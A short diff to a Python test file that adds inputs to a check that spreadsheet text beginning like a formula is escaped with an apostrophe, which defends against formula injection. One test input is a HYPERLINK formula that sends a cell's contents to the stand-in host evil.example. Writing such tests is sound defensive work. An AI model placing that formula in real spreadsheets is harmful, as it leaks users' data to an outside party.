@@ -9,6 +9,7 @@ from surveyapp.spreadsheet import text_cell
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+44 20 7946 0000", "-x", "@SUM(A1)", "\tx", "\rx",
+                                  "\t=1+1", "\r=1+1", ";=1+1",
                                   '=HYPERLINK("http://evil.example/?"&A1)'])
 def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
     assert text_cell(text) == "'" + text
